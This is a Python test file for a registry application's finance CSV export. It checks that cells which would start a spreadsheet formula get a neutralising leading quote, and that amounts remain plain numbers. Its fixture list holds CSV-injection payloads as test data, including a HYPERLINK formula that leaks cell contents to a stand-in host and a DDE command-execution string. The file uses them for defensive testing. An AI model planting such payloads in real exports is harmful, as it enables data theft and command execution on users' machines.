"""Exports: a CSV cell that a spreadsheet would run as a formula (a host unit
named ``=HYPERLINK(…)``) is neutralised with a leading quote, as OWASP recommends, while the
amounts stay numbers; checked by opening the finance CSV in Gnumeric's own CSV importer."""

from __future__ import annotations

import csv
import gzip
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
from decimal import Decimal
from pathlib import Path

import pytest
from freezegun import freeze_time

from aggregates.application import RegistryApp
from aggregates.programme import Programme, host_unit
from aggregates.store import StoreConfig
from projections import queries as Q
from projections.csv_cells import csv_cell
from projections.db import make_engine
from projections.runner import ReadModelRunner
from support import migrated

HOSTILE_HOSTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1,2)"]
GNM = {"gnm": "http://www.gnumeric.org/v10.dtd"}


@pytest.fixture
def ledger_csv(tmp_path: Path) -> str:
    """The finance CSV of platforms approved with hostile host-unit names (one commitment each)."""
    with freeze_time("2026-06-01T02:00:00Z"):
        app = RegistryApp(StoreConfig(migrated(f"sqlite:///{tmp_path / 'events.sqlite3'}")))
        prog = Programme(app)
        for i, host in enumerate(HOSTILE_HOSTS):
            prog.to("approved", subfield=("智能芯片", "智能传感器", "智能算力", "智慧金融")[i], name=f"平台{i}",
                    host_unit=host_unit(host))
    engine = make_engine(app.store)
    ReadModelRunner(app, engine).catch_up()
    with engine.connect() as conn:
        text = Q.ledger_csv(conn, lang="en")
    engine.dispose()
    app.close()
    return text


def test_csv_cell_quotes_every_formula_trigger_and_keeps_numbers() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(trigger + "1+1") == "'" + trigger + "1+1"
    assert csv_cell("长沙某某科技有限公司") == "长沙某某科技有限公司"
    assert csv_cell(Decimal("-12.50")) == Decimal("-12.50")  # a negative amount is a number
    assert csv_cell(2024) == 2024
    assert csv_cell(None) == ""


def test_finance_csv_host_units_are_quoted_and_amounts_are_plain(ledger_csv: str) -> None:
    rows = list(csv.DictReader(io.StringIO(ledger_csv.removeprefix("\ufeff"))))[:-1]  # less the totals
    assert sorted(r["host_unit"] for r in rows) == sorted("'" + h for h in HOSTILE_HOSTS)
    for r in rows:
        assert Decimal(r["commitment"]) > 0 and not r["commitment"].startswith("'")
        assert int(r["fiscal_year"]) == 2022 and int(r["event_position"]) > 0


@pytest.mark.skipif(shutil.which("ssconvert") is None,
                    reason="ssconvert (Debian package gnumeric) is not installed: no spreadsheet to open the CSV with")
def test_spreadsheet_opens_finance_csv_without_formulas(ledger_csv: str, tmp_path: Path) -> None:
    src, dst = tmp_path / "ledger.csv", tmp_path / "ledger.gnumeric"
    src.write_text(ledger_csv, encoding="utf-8", newline="")
    subprocess.run(["ssconvert", "-I", "Gnumeric_stf:stf_csvtab", str(src), str(dst)],
                   check=True, capture_output=True, timeout=60)
    cells = ET.fromstring(gzip.decompress(dst.read_bytes())).findall(".//gnm:Cell", GNM)
    header = {c.text: int(c.get("Col")) for c in cells if c.get("Row") == "0"}
    body = [c for c in cells if c.get("Row") != "0"]
    # A formula cell has no ValueType; 60 is a string, 40 a number.
    assert [c.text for c in body if c.get("ValueType") is None] == []
    hosts = [c for c in body if int(c.get("Col")) == header["host_unit"]]
    assert sorted(c.text for c in hosts) == sorted(HOSTILE_HOSTS)  # shown as typed, as text
    assert {c.get("ValueType") for c in hosts} == {"60"}
    amounts = [c for c in body if int(c.get("Col")) == header["commitment"]]
    assert len(amounts) == len(HOSTILE_HOSTS) + 1 and {c.get("ValueType") for c in amounts} == {"40"}  # and the total
